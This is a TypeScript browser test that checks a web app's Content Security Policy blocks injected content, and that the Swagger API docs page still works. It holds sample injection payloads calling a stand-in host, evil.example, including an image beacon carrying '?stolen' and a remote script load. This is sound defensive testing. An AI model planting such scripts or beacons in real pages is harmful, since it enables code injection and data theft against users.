import { expect, it } from "vitest";
import { describeInBrowser } from "./story.ts";

/** What a script that got into the page would try first, in the browser's own words. */
const intrusions = {
  "an inline script": "add('script', { textContent: 'window.intruded = true' })",
  "a script from elsewhere": "add('script', { src: 'https://evil.example/x.js' })",
  "a style without the nonce": "add('style', { textContent: 'body { color: red }' })",
  "a picture that carries something out": "add('img', { src: 'https://evil.example/?stolen' })",
  "a request to elsewhere": "fetch('https://evil.example/').catch(() => {})",
  "a form that sends elsewhere": "add('form', { action: 'https://evil.example/', method: 'post' }).submit()",
  "a frame": "add('iframe', { src: '/' })",
  "another base of addresses":
    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
};

/** Resolves with what the browser did about it. */
const tried = (words: string) => `new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(event.disposition), { once: true });
  const add = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));
  ${words};
})`;

describeInBrowser("the policy of the page, in a real browser", (story) => {
  it("stops whatever is no part of it", async () => {
    const { app, context } = story();
    const page = await context.browser()?.newPage();
    if (page === undefined) throw new Error("the browser is gone");
    await page.goto(app.url);
    await page.getByLabel("E-mail").waitFor();
    const done = new Map<string, unknown>();
    for (const [what, words] of Object.entries(intrusions)) done.set(what, await page.evaluate(tried(words)));
    expect(Object.fromEntries(done)).toEqual(Object.fromEntries([...done.keys()].map((what) => [what, "enforce"])));
    expect(await page.evaluate("'intruded' in window")).toBe(false);
    await page.context().close();
  });

  it("lets the page that describes the API work", async () => {
    const { app, page } = story();
    await page.goto(`${app.url}/api/docs`);
    const route = page.getByText("The product, its version and its address");
    // Swagger UI draws all routes before it shows one.
    await route.waitFor({ timeout: 90_000 });
    await route.click();
    await page.getByRole("button", { name: "Try it out" }).click();
    await page.getByRole("button", { name: "Execute" }).click();
    await page.getByText('"publicUrl"').first().waitFor();
  });
});
